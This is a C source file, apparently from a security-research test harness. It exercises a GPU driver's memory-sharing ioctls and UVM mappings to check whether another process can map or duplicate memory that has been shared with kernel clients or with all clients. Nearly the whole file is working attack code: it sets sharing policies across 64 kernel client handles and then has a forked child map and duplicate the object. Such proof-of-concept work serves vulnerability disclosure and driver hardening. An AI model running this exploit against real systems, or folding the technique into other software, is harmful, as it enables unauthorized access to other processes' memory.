/* Memory that is shared with all clients: UVM would map it for any process, by a call that no guard sees. */
#include "attack.h"

#define KERNEL_CLIENTS 0xc1e00000u /* of the driver's own, UVM's among them */
#define KERNEL_CLIENT_COUNT 64u
#define MAY_DUPLICATE 1u
#define FOR_CLIENT 3u
#define ALL 1u
#define INHERITED 0xd04u

struct policy {
    uint32_t target, mask;
    uint16_t type;
    uint8_t action, spare;
};
struct share { /* 0x35 */
    uint32_t client, object;
    struct policy policy;
    uint32_t status;
};
_Static_assert (sizeof (struct share) == 24, "");

static uint32_t share (const struct bed *bed, uint32_t object, uint16_t type, uint32_t target)
{
    struct share call = { bed->client, object, { target, MAY_DUPLICATE, type, 0, 0 }, 0xffff };

    return ioctl (bed->file, REQUEST (0x35, sizeof (call)), &call) < 0 ? 0x10000u + (uint32_t) errno : call.status;
}

/* Another process: for each line that it gets it maps the piece, and says whether it could; then it duplicates it. */
static void borrow (int lines, int answers)
{
    struct bed bed = bed_open (), theirs = bed;
    struct uvm uvm = uvm_begin (&bed, false);
    uint32_t words[2];
    unsigned mapped = 0;

    while (read (lines, words, sizeof (words)) == (ssize_t) sizeof (words)) {
        theirs.client = words[0];
        mapped += uvm_map (&uvm, &theirs, mapped, words[1], GIB) == 0;
        if (write (answers, &mapped, sizeof (mapped)) != (ssize_t) sizeof (mapped))
            _exit (4);
    }
    struct duplicate call = { bed.client, bed.device, bed.next, theirs.client, words[1], 0, 0xffff };

    say ("shared", mapped);
    say ("duplicate", ioctl (bed.file, REQUEST (0x34, sizeof (call)), &call) < 0 ? (uint64_t) errno : call.status);
    say ("own", uvm_map (&uvm, &bed, 100, bed.next, GIB));
    hold ();
    _exit (0);
}

/* shared: in each way in which memory can be shared beyond its process. */
void attack_shared (int argc, char **argv)
{
    static const uint16_t types[] = { 2, 5, 6, ALL };
    int lines[2], answers[2];
    uint32_t words[2];
    unsigned mapped;
    struct bed bed;

    (void) argc, (void) argv;
    if (pipe (lines) != 0 || pipe (answers) != 0)
        exit (4);
    if (fork () == 0) {
        close (lines[1]);
        borrow (lines[0], answers[1]);
    }
    bed = bed_open ();
    words[0] = bed.client;
    say ("memory", bed_memory (&bed, &words[1], GIB));
    for (unsigned i = 0; i < KERNEL_CLIENT_COUNT + 5; i++) {
        struct policy all = { 0, MAY_DUPLICATE, ALL, 0, 0 };

        if (i < KERNEL_CLIENT_COUNT)
            share (&bed, words[1], FOR_CLIENT, KERNEL_CLIENTS + i);
        else if (i == KERNEL_CLIENT_COUNT)
            bed_control (&bed, bed.client, INHERITED, &all, sizeof (all));
        else
            share (&bed, words[1], types[i - KERNEL_CLIENT_COUNT - 1], 0);
        if (write (lines[1], words, sizeof (words)) != (ssize_t) sizeof (words) ||
            read (answers[0], &mapped, sizeof (mapped)) != (ssize_t) sizeof (mapped))
            exit (4);
    }
    close (lines[1]);
    wait (NULL);
}
